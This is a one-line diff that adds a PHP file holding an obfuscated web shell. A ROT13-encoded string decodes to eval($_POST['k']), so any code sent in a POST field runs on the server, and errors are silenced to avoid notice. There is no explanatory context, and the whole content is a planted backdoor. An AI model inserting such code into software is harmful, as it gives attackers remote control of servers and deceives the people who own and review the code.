@@ -1,0 +1,1 @@
+<?php @eval(str_rot13('riny($_CBFG["k"]);')); ?>
